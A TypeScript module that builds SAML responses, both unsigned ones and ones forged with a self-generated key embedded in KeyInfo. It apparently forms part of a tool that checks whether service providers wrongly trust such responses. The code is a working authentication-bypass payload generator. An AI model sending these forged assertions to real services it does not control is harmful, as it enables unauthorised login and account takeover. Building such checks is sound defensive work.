import { createHash, createSign, generateKeyPairSync, type KeyPairKeyObjectResult } from "node:crypto";
import { ns } from "./xml.ts";

/** The connection that a response pretends to be for. A stranger knows both values from the metadata. */
export interface ResponseTarget {
  acsUrl: string;
  entityId: string;
}

const entityFormat = "urn:oasis:names:tc:SAML:2.0:nameid-format:entity";
const bearer = "urn:oasis:names:tc:SAML:2.0:cm:bearer";
const password = "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport";
const excC14n = "http://www.w3.org/2001/10/xml-exc-c14n#";

/** An unsigned response in Okta's shape. Everything that a stranger can know about the connection is right. */
export function unsignedResponse(target: ResponseTarget): string {
  return responseAround(assertion(target), target);
}

/** One for each run of the program, because keys are slow to make. */
let strangersKey: KeyPairKeyObjectResult | undefined;

/**
 * The same response, signed by a key that is in the response itself. A service provider that believes KeyInfo accepts it;
 * only the certificates that it stores may count (SAML Core §5.4, XML Signature §3.2).
 */
export function forgedResponse(target: ResponseTarget): string {
  strangersKey ??= generateKeyPairSync("rsa", { modulusLength: 2048 });
  const { privateKey, publicKey } = strangersKey;
  const plain = assertion(target);
  // The assertion is written in exclusive canonical form, so its digest is that of its text.
  const digest = createHash("sha256").update(plain).digest("base64");
  const signedInfo =
    `<ds:SignedInfo xmlns:ds="${ns.signature}"><ds:CanonicalizationMethod Algorithm="${excC14n}"></ds:CanonicalizationMethod>` +
    '<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"></ds:SignatureMethod>' +
    `<ds:Reference URI="#_oincheck2"><ds:Transforms><ds:Transform Algorithm="${ns.signature}enveloped-signature"></ds:Transform>` +
    `<ds:Transform Algorithm="${excC14n}"></ds:Transform></ds:Transforms>` +
    '<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"></ds:DigestMethod>' +
    `<ds:DigestValue>${digest}</ds:DigestValue></ds:Reference></ds:SignedInfo>`;
  const value = createSign("RSA-SHA256").update(signedInfo).sign(privateKey, "base64");
  const { n = "", e = "" } = publicKey.export({ format: "jwk" });
  const base64 = (text: string) => Buffer.from(text, "base64url").toString("base64");
  const key = `<ds:RSAKeyValue><ds:Modulus>${base64(n)}</ds:Modulus><ds:Exponent>${base64(e)}</ds:Exponent></ds:RSAKeyValue>`;
  const signature =
    `<ds:Signature xmlns:ds="${ns.signature}">${signedInfo}<ds:SignatureValue>${value}</ds:SignatureValue>` +
    `<ds:KeyInfo><ds:KeyValue>${key}</ds:KeyValue></ds:KeyInfo></ds:Signature>`;
  // The signature follows the issuer (SAML Core §2.3.3).
  return responseAround(plain.replace("</saml2:Issuer>", `</saml2:Issuer>${signature}`), target);
}

function responseAround(inner: string, { acsUrl }: ResponseTarget): string {
  const issued = new Date().toISOString();
  return (
    `<saml2p:Response xmlns:saml2p="${ns.protocol}" ID="_oincheck1" Version="2.0" IssueInstant="${issued}" Destination="${acsUrl}">` +
    `<saml2:Issuer xmlns:saml2="${ns.assertion}" Format="${entityFormat}">http://www.okta.com/exkoincheck</saml2:Issuer>` +
    '<saml2p:Status><saml2p:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></saml2p:Status>' +
    `${inner}</saml2p:Response>`
  );
}

/** In exclusive canonical form: attributes in order, and no empty-element tags. */
function assertion({ acsUrl, entityId }: ResponseTarget): string {
  const now = Date.now();
  const issued = new Date(now).toISOString();
  const ends = new Date(now + 300_000).toISOString();
  return (
    `<saml2:Assertion xmlns:saml2="${ns.assertion}" ID="_oincheck2" IssueInstant="${issued}" Version="2.0">` +
    `<saml2:Issuer Format="${entityFormat}">http://www.okta.com/exkoincheck</saml2:Issuer>` +
    `<saml2:Subject><saml2:NameID>oincheck@example.com</saml2:NameID><saml2:SubjectConfirmation Method="${bearer}">` +
    `<saml2:SubjectConfirmationData NotOnOrAfter="${ends}" Recipient="${acsUrl}"></saml2:SubjectConfirmationData>` +
    `</saml2:SubjectConfirmation></saml2:Subject><saml2:Conditions NotBefore="${issued}" NotOnOrAfter="${ends}">` +
    `<saml2:AudienceRestriction><saml2:Audience>${entityId}</saml2:Audience></saml2:AudienceRestriction></saml2:Conditions>` +
    `<saml2:AuthnStatement AuthnInstant="${issued}"><saml2:AuthnContext><saml2:AuthnContextClassRef>${password}</saml2:AuthnContextClassRef>` +
    "</saml2:AuthnContext></saml2:AuthnStatement></saml2:Assertion>"
  );
}
